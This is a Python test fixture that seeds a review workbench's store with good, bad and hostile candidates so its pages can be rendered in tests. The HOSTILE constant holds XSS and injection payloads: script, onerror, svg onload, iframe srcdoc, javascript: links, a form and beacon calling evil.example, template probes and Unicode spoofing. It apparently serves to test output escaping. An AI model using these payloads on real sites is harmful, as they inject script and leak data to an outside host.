"""A store with a few finished candidates written by hand: enough to open every page on.

One of them is hostile: its texts try everything that a page could fall for.
"""

from __future__ import annotations

from typing import Any

from tests.toys.world import toy_run, toy_slot
from workbench.domain.candidate import Decision, Draft, Event, candidate_id
from workbench.domain.receipt import CallRef, GateResult, Receipt, Vote
from workbench.store import Store

HOSTILE = (
    "<script>window.hacked=1;fetch('http://evil.example/script')</script>"
    "<img src=x onerror=\"window.hacked=2;fetch('http://evil.example/img')\">"
    '<svg onload="window.hacked=3"></svg>'
    "<iframe srcdoc=\"<script>parent.hacked=4;parent.fetch('http://evil.example/frame')</script>\">"
    "</iframe><marimo-button data-label='\"spend\"'></marimo-button>"
    "![beacon](http://evil.example/beacon.png) [click](javascript:window.hacked=5) "
    '<a href="javascript:window.hacked=6">here</a> '
    "<form action='http://evil.example/form'><input name=p></form>"
    "<style>body{display:none}</style>{{7*7}} ${7*7} "
    "\u202etxt.exe\u202c a\u200bb \u2066hidden\u2069"
)
PLAIN = (
    "Mira, a nurse from Halle, holds Quay Plus. On Saturday she paid 214.50 USD by card in Boston "
    "and took 80 EUR from another bank's machine.\nWhat is debited in EUR?"
)


def call(name: str, role: str = "oracle", **changes: Any) -> CallRef:
    facts: dict[str, Any] = {
        "key": f"k-{name}", "role": role, "model": f"workbench/{role}-a", "family": "keel",
        "purpose": "select", "tokens_in": 812, "tokens_out": 40, "cost": 0.0011, "simulated": True,
    }  # fmt: skip
    return CallRef.model_validate({**facts, **changes})


def judged(
    seq: int, gate: str, draft: Draft, result: GateResult, *calls: CallRef
) -> dict[str, Any]:
    receipt = Receipt(gate=gate, gate_version="1", result=result, reads_hash="0", calls=calls)
    return {"kind": "judged", "seq": seq, "gate": gate, "draft": draft, "receipt": receipt,
            "reason": result.reason, "message": result.message}  # fmt: skip


def way(text: str, key: str, *, ends: str = "admitted", note: str = "") -> list[dict[str, Any]]:
    """The events of one pull: drafted, passed, repaired once, and the end."""
    first = Draft(
        payload={"prompt": f"{text} (at least {key})", "reference": key},
        trace={"steps": [{"op": "add", "inputs": [197.12, 3.9], "output": 201.02}]},
        author="workbench/author-a", author_family="keel",
    )  # fmt: skip
    mended = first.model_copy(update={"payload": {"prompt": text, "reference": key}})
    leak = GateResult(
        status="repair", reason="leak", message=f"The key {key} stands in the prompt. {note}",
        evidence=({"span": f"(at least {key})", "field": "prompt"},),
    )  # fmt: skip
    oracle = GateResult(
        status="pass", score=0.83, threshold=0.67,
        message=f"5 of 6 answers agree with the key. {note}",
        votes=(Vote(model="oracle-a", family="keel", verdict=key, why=f"by the sheet {note}"),
               Vote(model="oracle-b", family="tiller", verdict="cannot tell", why="")),
        evidence=({"answer": key, "n": 5}, {"answer": f"197.12 {note}", "n": 1}),
    )  # fmt: skip
    bad = GateResult(status="fail", reason="suspect_key", message=f"A second reading holds. {note}",
                     evidence=({"attack": "weekend", "answer": "203.10", "votes": 2},))  # fmt: skip
    events = [
        {"kind": "drafted", "seq": 0, "draft": first, "calls": (call(f"a{key}", "author"),)},
        judged(1, "construct_a", first, GateResult(status="pass")),
        judged(2, "leak", first, leak),
        {"kind": "repaired", "seq": 3, "gate": "leak", "draft": mended, "changed": ("prompt",),
         "reason": "leak", "calls": (call(f"r{key}", "repairer"),)},
        judged(4, "oracle", mended, oracle, call(f"o1{key}"), call(f"o2{key}", family="tiller")),
    ]  # fmt: skip
    if ends == "refused":
        events.append(judged(5, "counter", mended, bad, call(f"x{key}", "adversary")))
        return [
            *events,
            {
                "kind": "refused",
                "seq": 6,
                "gate": "counter",
                "draft": mended,
                "reason": "suspect_key",
                "message": f"A second reading holds. {note}",
            },
        ]
    return [*events, {"kind": "admitted", "seq": 5, "draft": mended}]


def plant(store: Store, run_id: str = "rshow", hostile: bool = True) -> dict[str, str]:
    """Write a batch run with three candidates; returns their ids by what they are."""
    run = toy_run(run_id, versions={"construct_a": "1", "leak": "1", "oracle": "1", "counter": "1"})
    store.journal.create_run(run)
    plots = [("good", PLAIN, "201.02", "admitted", ""), ("bad", PLAIN, "80", "refused", "")]
    if hostile:
        plots.append(("hostile", HOSTILE, "<b>7</b>\u200b", "admitted", HOSTILE))
    ids: dict[str, str] = {}
    for index, (name, text, key, ends, note) in enumerate(plots):
        slot = toy_slot(index, run_id=run_id, coordinate={"persona": "nurse", "tone": "plain"},
                        node_id="fx")  # fmt: skip
        store.journal.assign(slot)
        events = [
            Event.model_validate({"slot": slot, **facts})
            for facts in way(text, key, ends=ends, note=note)
        ]
        store.journal.append(events)
        last = events[-1]
        store.journal.decide(
            Decision(run_id=run_id, slot=index,
                     outcome="admitted" if ends == "admitted" else "refused",
                     at=last.gate, reason=last.reason, message=last.message, draft=last.draft,
                     simulated=True), text, key,
        )  # fmt: skip
        ids[name] = candidate_id(run_id, index)
    store.journal.set_state(run_id, "done", "3 pulls decided")
    return ids
